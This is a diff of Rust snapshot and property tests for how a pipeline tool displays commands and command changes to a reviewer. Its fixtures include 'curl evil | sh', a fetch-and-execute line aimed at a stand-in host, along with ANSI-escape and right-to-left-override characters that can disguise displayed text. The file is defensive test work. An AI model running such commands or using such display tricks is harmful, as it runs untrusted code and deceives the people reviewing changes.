@@ -134,8 +134,8 @@ fn a_person_reads_what_runs_and_what_changed() {
         .map(|text| format!("{}: {}", text.of, text.runs))
         .collect();
     insta::assert_snapshot!(lines.join("\n"), @r#"
-    diagnostics/x: A=1 B=2 make
-    diagnostics/y: make y   (in sub of the project)
+    diagnostics/x: make   (with A=1 B=2)
+    diagnostics/y: make y   (without a shell, in sub of the project)
     other/z: pipeline diagnostics
     project a: pipeline diagnostics
     project b: pipeline diagnostics
@@ -147,12 +147,107 @@ fn a_person_reads_what_runs_and_what_changed() {
         )
         .replace("id = 'y'", "id = 'new'");
     let diff = CommandDiff::between(&before, &config(&after).commands());
-    insta::assert_snapshot!(diff.lines().join("\n"), @r#"
-    + diagnostics/new: make y   (in sub of the project)
-    - diagnostics/y: make y   (in sub of the project)
-    ~ diagnostics/x: A=1 B=2 curl evil | sh\u{1b}[2K\u{202e}
+    let lines = diff.lines().join("\n");
+    let digest = lines.split("sha256 ").nth(1).unwrap().trim_end_matches(')');
+    insta::assert_snapshot!(lines.replace(digest, "X"), @r#"
+    + diagnostics/new: make y   (without a shell, in sub of the project)
+    - diagnostics/y: make y   (without a shell, in sub of the project)
+    ~ diagnostics/x: curl evil | sh\u{1b}[2K\u{202e}   (with A=1 B=2)   (sha256 X)
     "#);
     assert!(CommandDiff::between(&before, &before).is_empty());
+}
+
+fn text_of(command: Command) -> String {
+    let mut config = config(BASE);
+    let stage = &mut config.pipelines[0].stages[0];
+    stage.action = Action::Command(command);
+    runs(stage)
+}
+
+#[test]
+fn the_command_comes_first_and_no_long_text_hides_a_change() {
+    let long = "x".repeat(600);
+    let with = |line: &str, value: &str| {
+        let env = BTreeMap::from([("A".to_owned(), value.to_owned())]);
+        let line = CommandLine::Shell(line.to_owned());
+        let command = command(line);
+        text_of(Command { env, ..command })
+    };
+    let evil = with("curl evil | sh", &long);
+    assert!(evil.starts_with("curl evil | sh   (with A=xxx"), "{evil}");
+    assert_ne!(with("true", &long), evil);
+    let other = with("true", &format!("{long}y"));
+    assert_ne!(with("true", &long), other, "what is cut away differs");
+    assert_ne!(
+        with(&format!("{long}; true"), ""),
+        with(&format!("{long}; evil"), "")
+    );
+}
+
+#[test]
+fn what_differs_is_never_shown_alike() {
+    let shell = |line: &str| command(CommandLine::Shell(line.to_owned()));
+    let argv = |words: &[&str]| {
+        command(CommandLine::Argv(
+            words.iter().map(|it| (*it).to_owned()).collect(),
+        ))
+    };
+    let at = |cwd: &str| Cwd::Project(RelPath::parse(cwd).unwrap());
+    let env = |value: &str| BTreeMap::from([("A".to_owned(), value.to_owned())]);
+    let all = [
+        shell("make y"),
+        argv(&["make", "y"]),
+        argv(&["make y"]),
+        shell("make y   (without a shell)"),
+        shell("A=1 make"),
+        Command {
+            env: env("1"),
+            ..shell("make")
+        },
+        shell("make   (with A=1)"),
+        Command {
+            cwd: at("a"),
+            ..shell("make")
+        },
+        Command {
+            cwd: at("a"),
+            env: env("1"),
+            ..shell("make")
+        },
+        Command {
+            cwd: at("a of the project, with A=1"),
+            ..shell("make")
+        },
+        Command {
+            cwd: at("a of the project, in b"),
+            ..shell("make")
+        },
+        shell("make   (in a of the project)"),
+        Command {
+            env: BTreeMap::from([("A=1 B".to_owned(), "2".to_owned())]),
+            ..shell("make")
+        },
+        Command {
+            env: BTreeMap::from(["A", "B"].map(|name| (name.to_owned(), "2".to_owned()))),
+            ..shell("make")
+        },
+        Command {
+            env: BTreeMap::from([
+                ("A".to_owned(), "1".to_owned()),
+                ("B".to_owned(), "2".to_owned()),
+            ]),
+            ..shell("make")
+        },
+        shell("pipeline other"),
+        shell("make \u{1b}"),
+        shell("make \\u{1b}"),
+    ];
+    let count = all.len();
+    let mut texts: BTreeSet<String> = all.into_iter().map(text_of).collect();
+    let of_pipeline = config(BASE).commands().into_iter().map(|text| text.runs);
+    texts.extend(of_pipeline.filter(|runs| runs.contains("pipeline")));
+    texts.insert("pipeline other".to_owned());
+    assert_eq!(texts.len(), count + 2, "{texts:#?}");
 }
 
 /// In a published configuration stages of one pipeline may have one id.
@@ -189,7 +284,7 @@ fn the_list_is_bounded() {
     assert!(
         texts
             .iter()
-            .all(|text| text.runs.chars().count() <= COMMAND_SHOWN_CHARS_MAX + 1)
+            .all(|text| text.runs.chars().count() <= COMMAND_SHOWN_CHARS_MAX + 100)
     );
 }
 
@@ -254,5 +349,6 @@ proptest! {
         prop_assert_eq!(hurried.stage_key(input), one.stage_key(input));
         let forgiven = Command { allow_failure: !one.allow_failure, ..one.clone() };
         prop_assert_ne!(forgiven.stage_key(input), one.stage_key(input));
+        prop_assert_eq!(text_of(one.clone()) == text_of(other.clone()), one == other);
     }
 }
